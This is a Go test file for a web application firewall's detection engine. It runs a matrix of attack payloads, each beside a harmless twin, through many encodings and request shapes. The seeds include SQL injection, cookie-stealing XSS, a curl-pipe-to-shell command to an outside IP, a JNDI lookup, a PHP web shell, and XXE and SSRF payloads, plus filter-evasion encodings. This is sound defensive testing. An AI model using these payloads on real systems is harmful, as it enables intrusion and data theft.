package attack

import (
	"encoding/base64"
	"fmt"
	"net/url"
	"strings"
	"testing"
	"unicode/utf16"

	"github.com/stretchr/testify/require"

	"kongwaf/detect"
)

// seeds are attacks, each beside its harmless twin: a text with the same characters and
// words in which nothing is code. Each must be judged alike in every encoding and in
// every shape of request.
var seeds = []struct {
	class          detect.Class
	attack, benign string
	show           string // what the row shows
}{
	{class: detect.ClassSQLi, attack: "1' OR '1'='1' -- -", benign: "it's 1 or 2 o'clock", show: "quote closed, tautology"},
	{class: detect.ClassSQLi, attack: "-1 UNION ALL SELECT username, password FROM users", benign: "the union of all who select a username from users", show: "union in a number"},
	{class: detect.ClassSQLi, attack: "1; DROP TABLE customers; --", benign: "drop by; the table is set --", show: "stacked statement"},
	{class: detect.ClassSQLi, attack: "1 AND SLEEP(5)", benign: "1 nap and sleep for 5 hours", show: "time-based"},
	{class: detect.ClassXSS, attack: "<script>alert(document.cookie)</script>", benign: "a <b>script</b> is a document", show: "script element"},
	{class: detect.ClassXSS, attack: "<img src=x onerror=alert(1)>", benign: "<img src=\"/cat.png\" alt=\"a cat\">", show: "event handler"},
	{class: detect.ClassXSS, attack: "\"><svg onload=alert(1)>", benign: "the \"svg\" loads if it is > 1 kB", show: "attribute closed"},
	{class: detect.ClassRCE, attack: ";cat /etc/passwd", benign: "our cat; she sat", show: "second command"},
	{class: detect.ClassRCE, attack: "$(curl http://203.0.113.9/x.sh|sh)", benign: "costs $5.00 (shipping | tax)", show: "command substitution"},
	{class: detect.ClassRCE, attack: "${jndi:ldap://203.0.113.9/a}", benign: "${name}", show: "JNDI lookup"},
	{class: detect.ClassPathTraversal, attack: "../../../../etc/passwd", benign: "docs/etc/manual.txt", show: "up to the root"},
	{class: detect.ClassPathTraversal, attack: "..\\..\\..\\windows\\win.ini", benign: "My Windows folder", show: "the same on Windows"},
	{class: detect.ClassSSTI, attack: "{{7*7}}{{config.items()}}", benign: "{{first_name}}", show: "template expression"},
	{class: detect.ClassRCE, attack: "<?php system($_GET['c']); ?>", benign: "<?xml version=\"1.0\"?>", show: "code block"},
	{class: detect.ClassXSS, attack: "javascript:alert(document.cookie)", benign: "https://shop.example.com/alert?document=cookie", show: "script address"},
	{class: detect.ClassXSS, attack: "';alert(document.domain);//", benign: "it's an alert; see the document //", show: "string closed"},
	{class: detect.ClassSSRF, attack: "http://169.254.169.254/latest/meta-data/", benign: "https://www.example.com/latest/", show: "metadata service"},
	{class: detect.ClassNoSQLi, attack: "'; return this.password.length > 0; var x='", benign: "it's this; return it", show: "query's script"},
	{class: detect.ClassLDAPi, attack: "*)(uid=*))(|(uid=*", benign: "(uid) = (name)", show: "filter closed"},
	{class: detect.ClassXXE, attack: "<!DOCTYPE r [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><r>&x;</r>", benign: "<r>entity &amp; system</r>", show: "external entity"},
	{class: detect.ClassSSI, attack: "<!--#exec cmd=\"id\" -->", benign: "<!-- exec cmd id -->", show: "server-side include"},
	{class: detect.ClassDeser, attack: "O:8:\"Exploit_\":1:{s:3:\"cmd\";s:2:\"id\";}", benign: "O: 8 points, s: 3", show: "PHP object"},
	{class: detect.ClassSSTI, attack: "${T(java.lang.Runtime).getRuntime().exec('id')}", benign: "$19.99 (java, lang)", show: "Spring expression"},
}

// encodings are the ways in which a value may be written before it is placed.
var encodings = []struct {
	name string
	// encode returns the text, and whether this encoding can write it.
	encode func(s string) string
}{
	{name: "plain", encode: func(s string) string { return s }},
	{name: "percent", encode: url.QueryEscape},
	{name: "percent twice", encode: func(s string) string { return url.QueryEscape(url.QueryEscape(s)) }},
	{name: "percent, every byte", encode: eachByte("%%%02x")},
	{name: "percent-u", encode: eachByte("%%u%04x")},
	{name: "entities, decimal", encode: eachByte("&#%d;")},
	{name: "entities, hex", encode: eachByte("&#x%x;")},
	{name: "escapes, unicode", encode: eachByte("\\u%04x")},
	{name: "escapes, hex", encode: eachByte("\\x%02x")},
	{name: "full-width", encode: fullWidth},
	{name: "base64", encode: func(s string) string { return base64.StdEncoding.EncodeToString([]byte(s)) }},
	{name: "base64url", encode: func(s string) string { return base64.RawURLEncoding.EncodeToString([]byte(s)) }},
	{name: "base64 of JSON", encode: func(s string) string { return base64.StdEncoding.EncodeToString([]byte(`{"v":` + quoteJSON(s) + `}`)) }},
	{name: "hex", encode: eachByte("%02x")},
	{name: "UTF-7", encode: utf7},
	{name: "overlong", encode: overlong},
	{name: "NUL before marks", encode: func(s string) string {
		return strings.NewReplacer("'", "%00'", "<", "%00<").Replace(url.QueryEscape(s))
	}},
}

func eachByte(format string) func(string) string {
	return func(s string) string {
		var b strings.Builder
		for i := range len(s) {
			fmt.Fprintf(&b, format, s[i])
		}
		return b.String()
	}
}

func fullWidth(s string) string {
	return strings.Map(func(r rune) rune {
		if '!' <= r && r <= '~' {
			return r + 0xFEE0
		}
		return r
	}, s)
}

// overlong writes every mark as two bytes of UTF-8 where one would do.
func overlong(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; 'a' <= c|0x20 && c|0x20 <= 'z' || '0' <= c && c <= '9' {
			b.WriteByte(c)
		} else {
			fmt.Fprintf(&b, "%%%02x%%%02x", 0xC0|c>>6, 0x80|c&0x3F)
		}
	}
	return b.String()
}

func utf7(s string) string {
	var b strings.Builder
	for i := range len(s) {
		if c := s[i]; c == ' ' || 'a' <= c|0x20 && c|0x20 <= 'z' || '0' <= c && c <= '9' {
			b.WriteByte(c)
		} else {
			b.WriteString("+" + base64.RawStdEncoding.EncodeToString([]byte{0, c}) + "-")
		}
	}
	return b.String()
}

func utf16le(s string) string {
	var b strings.Builder
	for _, u := range utf16.Encode([]rune(s)) {
		b.WriteByte(byte(u))
		b.WriteByte(byte(u >> 8))
	}
	return b.String()
}

// TestMatrix tries every seed in every encoding in every shape.
func TestMatrix(t *testing.T) {
	engine, err := New(Options{})
	require.NoError(t, err)
	for _, shape := range matrixShapes {
		t.Run(shape.name, func(t *testing.T) {
			attacks, blocked, benign, wrong := 0, 0, 0, 0
			for _, seed := range seeds {
				for _, enc := range encodings {
					if shape.plainOnly && enc.name != "plain" {
						continue
					}
					attacks++
					if report := engine.Inspect(shape.build(enc.encode(seed.attack))); report.Blocked {
						blocked++
						checkReport(t, report)
					} else {
						t.Logf("missed: %s, %s: %q", seed.class, enc.name, seed.attack)
					}
					benign++
					if report := engine.Inspect(shape.build(enc.encode(seed.benign))); report.Blocked {
						wrong++
						t.Logf("wrong: %s: %q: %+v", enc.name, seed.benign, report.Attacks)
					}
				}
			}
			if 100*blocked < 95*attacks {
				t.Errorf("%d of %d attacks blocked", blocked, attacks)
			}
			if 100*wrong >= max(benign, 1) {
				t.Errorf("%d of %d harmless twins blocked", wrong, benign)
			}
		})
	}
}

// checkReport asserts what holds for every report.
func checkReport(t *testing.T, r detect.Report) {
	t.Helper()
	if len(r.Attacks) == 0 || r.Score < r.Attacks[0].Confidence || r.Score > 1 {
		t.Errorf("score %v with %+v", r.Score, r.Attacks)
	}
	for i, f := range r.Attacks {
		switch {
		case f.Class == detect.ClassNone, f.Place.Source() == detect.SourceUnknown,
			f.Confidence < suspicious || f.Confidence > 1,
			f.Evidence == "" || len(f.Evidence) > maxEvidence+len("..."),
			i > 0 && f.Confidence > r.Attacks[i-1].Confidence:
			t.Errorf("finding %d: %+v", i, f)
		}
	}
}
